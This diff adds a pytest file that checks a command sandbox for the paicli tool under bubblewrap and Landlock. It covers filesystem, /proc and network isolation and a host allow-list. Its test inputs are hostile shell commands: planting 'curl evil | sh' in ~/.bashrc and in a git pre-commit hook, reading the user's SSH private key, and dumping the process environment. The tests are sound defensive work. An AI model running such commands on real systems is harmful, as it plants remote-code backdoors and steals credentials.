@@ -1,0 +1,199 @@
+"""Attacks by a sandboxed command, in real processes, under each Linux mechanism.
+
+Each attack first runs without the sandbox, where it must succeed on this machine, then in
+`Sandbox.for_project(HOME/project)`, where it must fail. The allow-list runs under
+bubblewrap only: Landlock cannot give a process a network of its own, and says so.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+import paicli.mcp as m
+from paicli.mcp._sandbox.prepare import PreparedSandbox
+from tests.sandboxes import BASHRC, KEY, home, listener, mechanism, python, run
+
+pytestmark = [pytest.mark.real, pytest.mark.skipif(sys.platform != "linux", reason="Linux")]
+__all__ = ["home", "mechanism"]  # fixtures
+
+CONNECT = (
+    "import socket, sys\n"
+    "try:\n"
+    "    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5)\n"
+    "    print('connected')\n"
+    "except OSError as exc:\n"
+    "    print('refused:', exc.strerror or exc)\n"
+)
+FETCH = (
+    "import sys, urllib.request, urllib.error\n"
+    "try:\n"
+    "    print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())\n"
+    "except urllib.error.HTTPError as exc:\n"
+    "    print(exc.code, exc.read().decode().strip())\n"
+    "except urllib.error.URLError as exc:\n"
+    "    print('failed:', exc.reason)\n"
+)
+
+
+def profile(home: Path, **options: object) -> m.Sandbox:
+    return m.Sandbox.for_project(home / "project", **options)  # type: ignore[arg-type]
+
+
+async def test_a_sandboxed_command_cannot_write_the_users_bashrc(
+    mechanism: str, home: Path
+) -> None:
+    attack = ["sh", "-c", 'echo "curl evil | sh" >> "$HOME/.bashrc"']
+    code, _ = await run(attack, None, cwd=home / "project")
+    assert code == 0 and "curl evil" in (home / ".bashrc").read_text()
+    (home / ".bashrc").write_text(BASHRC)
+
+    code, output = await run(attack, profile(home), cwd=home / "project")
+    assert code != 0
+    assert "Read-only file system" in output or "Permission denied" in output
+    assert (home / ".bashrc").read_text() == BASHRC
+
+
+async def test_a_sandboxed_command_cannot_read_the_users_ssh_key(
+    mechanism: str, home: Path
+) -> None:
+    attack = ["sh", "-c", 'cat "$HOME/.ssh/id_ed25519"']
+    assert (await run(attack, None, cwd=home / "project"))[1] == KEY
+
+    code, output = await run(attack, profile(home), cwd=home / "project")
+    assert code != 0 and "OPENSSH" not in output
+
+
+async def test_a_sandboxed_command_cannot_read_the_environment_of_paicli(
+    mechanism: str, home: Path
+) -> None:
+    """Through /proc, where the model key and the servers' secrets are (as paicli started)."""
+    environ = Path(f"/proc/{os.getpid()}/environ")
+    first = (await asyncio.to_thread(environ.read_bytes)).split(b"\0")[0].decode()
+    attack = ["sh", "-c", f"tr '\\0' '\\n' < {environ}"]
+    assert first in (await run(attack, None, cwd=home))[1]
+
+    code, output = await run(attack, profile(home), cwd=home)
+    assert code != 0 and first not in output
+
+
+async def test_a_sandboxed_command_writes_its_project_and_temp_and_its_status_passes(
+    mechanism: str, home: Path
+) -> None:
+    work = 'echo built > out.txt && echo scratch > "${TMPDIR:-/tmp}/x" && cat out.txt; exit 3'
+    code, output = await run(["sh", "-c", work], profile(home), cwd=home / "project")
+    assert (code, output) == (3, "built\n")
+    assert (home / "project" / "out.txt").read_text() == "built\n"
+    killed, _ = await run(["sh", "-c", "kill -TERM $$"], profile(home), cwd=home / "project")
+    assert killed == -15
+
+
+async def test_a_sandboxed_command_cannot_reach_a_listener_on_loopback(
+    mechanism: str, home: Path
+) -> None:
+    async with listener() as (port, seen):
+        attack = [*python(CONNECT), str(port)]
+        assert (await run(attack, None, cwd=home))[1] == "connected\n"
+        _, output = await run(attack, profile(home), cwd=home)
+    assert output.startswith("refused:"), output
+    assert len(seen) == 1  # the unsandboxed run's only
+
+
+async def test_with_network_loopback_its_own_loopback_works_and_this_machines_does_not(
+    mechanism: str, home: Path
+) -> None:
+    if mechanism == "landlock":
+        with pytest.raises(m.SandboxUnavailable, match="Landlock cannot give network loopback"):
+            await PreparedSandbox.open(profile(home, network="loopback"))
+        return
+    own = (
+        "import socket\n"
+        "server = socket.create_server(('127.0.0.1', 0))\n"
+        "socket.create_connection(server.getsockname(), timeout=5)\n"
+        "print('own loopback works')\n"
+    )
+    loopback = profile(home, network="loopback")
+    assert (await run(python(own), loopback, cwd=home))[1] == "own loopback works\n"
+    async with listener() as (port, seen):
+        _, output = await run([*python(CONNECT), str(port)], loopback, cwd=home)
+    assert output.startswith("refused:") and not seen
+
+
+async def test_the_allow_list_refuses_a_host_not_on_it_in_one_line(
+    mechanism: str, home: Path
+) -> None:
+    allowed = profile(home, network=["allowed.test"])
+    if mechanism == "landlock":
+        with pytest.raises(m.SandboxUnavailable, match="allow-list: that needs bubblewrap"):
+            await PreparedSandbox.open(allowed)
+        return
+    aliases = {"allowed.test": "127.0.0.1", "denied.test": "127.0.0.1"}
+    async with listener() as (port, seen):
+        _, output = await run(
+            [*python(FETCH), f"http://denied.test:{port}/"], allowed, cwd=home, aliases=aliases
+        )
+        assert output == "403 paicli sandbox: denied.test is not on the network allow-list\n"
+        _, output = await run(
+            [*python(FETCH), f"https://denied.test:{port}/"], allowed, cwd=home, aliases=aliases
+        )
+        assert "403 Forbidden: denied.test is not on the allow-list" in output
+    assert not seen
+
+
+BUBBLEWRAP_ONLY = pytest.mark.parametrize("mechanism", ["bubblewrap"], indirect=True)
+
+
+@BUBBLEWRAP_ONLY  # Landlock cannot give an allow-list; the test above checks it says so
+async def test_the_allow_list_lets_a_listed_host_through_and_nothing_else(
+    mechanism: str, home: Path
+) -> None:
+    allowed = profile(home, network=["allowed.test"])
+    aliases = {"allowed.test": "127.0.0.1"}
+    async with listener() as (port, seen):
+        fetch = [*python(FETCH), f"http://allowed.test:{port}/path?q=1"]
+        assert (await run(fetch, allowed, cwd=home, aliases=aliases))[1] == "hello\n"
+        assert seen == ["GET /path?q=1 HTTP/1.1"]
+        direct = [*python(CONNECT), str(port)]
+        _, output = await run(direct, allowed, cwd=home, aliases=aliases)
+    assert output.startswith("refused:") and len(seen) == 1
+
+
+@BUBBLEWRAP_ONLY  # Landlock cannot keep a folder inside a writable one read-only
+async def test_git_hooks_stay_read_only_in_a_writable_project(mechanism: str, home: Path) -> None:
+    hooks = home / "project" / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    attack = ["sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit"]
+    code, _ = await run(attack, profile(home), cwd=home / "project")
+    assert code != 0 and not (hooks / "pre-commit").exists()
+    code, _ = await run(attack, None, cwd=home / "project")
+    assert code == 0 and (hooks / "pre-commit").exists()
+
+
+async def test_sandbox_command_wraps_a_command_for_a_caller_that_spawns_it(
+    mechanism: str, home: Path
+) -> None:
+    command = await m.sandbox_command(
+        ["sh", "-c", 'echo "$KEEP-$DROP"; cat "$HOME/.ssh/id_ed25519"'],
+        m.Sandbox.for_project(home / "project", env=["KEEP", "HOME", "PATH"]),
+        env={"KEEP": "kept", "DROP": "dropped", "HOME": str(home), "PATH": "/usr/bin:/bin"},
+    )
+    try:
+        assert command.mechanism == mechanism
+        process = await asyncio.create_subprocess_exec(
+            *command.argv,
+            env=command.env,
+            preexec_fn=command.preexec,
+            pass_fds=command.pass_fds,
+            stdout=asyncio.subprocess.PIPE,
+            stderr=asyncio.subprocess.DEVNULL,
+        )
+        async with asyncio.timeout(30):
+            output, _ = await process.communicate()
+    finally:
+        await command.aclose()
+    assert output.decode() == "kept-\n"
+    assert process.returncode is not None and command.exit_status(process.returncode) == 1
